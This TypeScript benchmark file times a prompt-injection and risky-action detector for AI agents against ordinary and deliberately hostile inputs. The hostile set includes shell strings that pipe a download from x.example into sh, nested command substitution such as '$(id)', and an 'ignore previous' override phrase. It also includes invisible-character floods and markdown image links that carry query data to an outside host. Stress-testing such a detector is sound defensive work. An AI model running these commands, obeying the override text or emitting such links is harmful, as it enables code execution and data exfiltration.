import { bench, group, run } from 'mitata'
import type { TypedInput } from '@ase/schemas'
import { findRisks } from '../src/index.ts'

const KIB = 1024

function fill(piece: string, bytes: number): string {
  return piece.repeat(Math.ceil(bytes / piece.length)).slice(0, bytes)
}

function context(content: string): TypedInput {
  return {
    type: 'context',
    input: { content, source: 'retrieved_webpage', trustLevel: 'untrusted' },
  }
}

function shell(command: string): TypedInput {
  return {
    type: 'action',
    input: {
      userIntent: 'Carry on with the task.',
      proposedAction: { tool: 'bash', arguments: { command } },
      grantedCapabilities: ['bash'],
    },
  }
}

function output(content: string): TypedInput {
  return {
    type: 'output',
    input: { content, destination: { kind: 'user' }, allowedDataClasses: ['public'] },
  }
}

const prose =
  'The meeting was moved to Tuesday; please send the notes to the front desk before noon. '
const script =
  'set -e\nfor f in src/*.ts; do echo "$f" | sed "s/a/b/" >> out.txt; done\nif [ -f x ]; then rm -rf dist; fi\n'

const deployment = 'cd /srv/app && git pull && npm ci && npm run build && systemctl restart app; '

/** Calls and results of a shell, each text its own. */
const shellEvents = Array.from({ length: 200 }, (_, index) => ({
  id: `e${index}`,
  tool: 'bash',
  ...(index % 2 === 0
    ? {
        kind: 'tool_call' as const,
        arguments: { command: fill(`echo ${index}; ${deployment}`, 300) },
      }
    : { kind: 'tool_result' as const, content: fill(`${index} ${deployment}`, 300) }),
}))

const events = Array.from({ length: 200 }, (_, index) => ({
  id: `e${index}`,
  ...(index % 2 === 0
    ? {
        kind: 'tool_call' as const,
        tool: 'send_email',
        arguments: { to: `p${index}@corp.example`, body: fill(prose, 200) },
      }
    : {
        kind: 'tool_result' as const,
        source: 'email' as const,
        content: fill(`From p${index + 1}@corp.example. ${prose}`, 300),
      }),
}))

/** Arguments are at most 32 KiB by their schema, content 64 KiB. */
const hostile: Readonly<Record<string, TypedInput>> = {
  '32 KiB "$(" nest': shell(fill('$(', 32 * KIB)),
  '32 KiB backquotes': shell(fill('`', 32 * KIB)),
  '32 KiB escaped backquotes': shell(fill('`\\`\\\\\\`', 32 * KIB)),
  '32 KiB "[[[ (((" ': shell(fill('[[ ( ( (', 32 * KIB)),
  '32 KiB "${x:-" nest': shell(fill('${x:-', 32 * KIB)),
  '32 KiB double quotes': shell(fill('"a"', 32 * KIB)),
  '32 KiB heredocs': shell(fill('<<A ', 32 * KIB)),
  '32 KiB heredoc bodies': shell(fill('cat <<A\n$(id)\n', 32 * KIB)),
  '32 KiB braces': shell(fill('{a,b}', 32 * KIB)),
  '32 KiB pipes': shell(fill('a|', 32 * KIB)),
  '32 KiB pipes into a shell': shell(fill('a|sh;', 32 * KIB)),
  '32 KiB downloads into a shell': shell(fill('curl x.example|sh;', 32 * KIB)),
  '32 KiB backquoted names': shell(fill('`a', 32 * KIB)),
  '32 KiB open braces': shell(fill('{a,b}{', 32 * KIB)),
  '32 KiB short here-documents': shell(fill('cat <<A\nhi\nA\n', 32 * KIB)),
  '32 KiB bash -c': shell(fill("bash -c '", 32 * KIB)),
  '32 KiB assignments': shell(fill('a=b$a;', 32 * KIB)),
  '32 KiB rm with spaces': shell(`rm ${fill(' ', 32 * KIB)}`),
  '64 KiB "ignore previous "': context(fill('ignore previous ', 64 * KIB)),
  '64 KiB zero-width flood': context(fill('a\u200B', 64 * KIB)),
  '64 KiB tag characters': context(fill('\u{E0041}', 64 * KIB)),
  '64 KiB comment openers': context(fill('<!-- <', 64 * KIB)),
  '64 KiB quotes': context(fill('"\'`', 64 * KIB)),
  '64 KiB base64': context(fill('QUJD', 64 * KIB)),
  '64 KiB spaced letters': context(fill('a b ', 64 * KIB)),
  '64 KiB look-alikes': context(fill('\u0430a ', 64 * KIB)),
  '64 KiB links': output(fill('![a](https://x.example/?a=b) ', 64 * KIB)),
  '64 KiB "[["': output(fill('[', 64 * KIB)),
  '64 KiB digits': output(fill('4111 ', 64 * KIB)),
  '64 KiB at signs': output(fill('a@b.c.', 64 * KIB)),
}

group('ordinary', () => {
  const small = context(fill(prose, 4 * KIB))
  const large = context(fill(prose, 64 * KIB))
  const command = shell(fill(script, 4 * KIB))
  const dense = shell(fill(deployment, 4 * KIB))
  const shellTrace: TypedInput = {
    type: 'trace',
    input: { goal: 'Deploy it.', events: shellEvents },
  }
  const trace: TypedInput = { type: 'trace', input: { goal: 'Answer my mail.', events } }
  bench('4 KiB prose', () => findRisks(small))
  bench('4 KiB shell', () => findRisks(command))
  bench('4 KiB dense shell', () => findRisks(dense))
  bench('64 KiB prose', () => findRisks(large))
  bench('trace of 200 events, 60 KiB', () => findRisks(trace))
  bench('trace of 200 shell events, 60 KiB', () => findRisks(shellTrace))
})

group('hostile', () => {
  for (const [name, input] of Object.entries(hostile)) bench(name, () => findRisks(input))
})

await run()
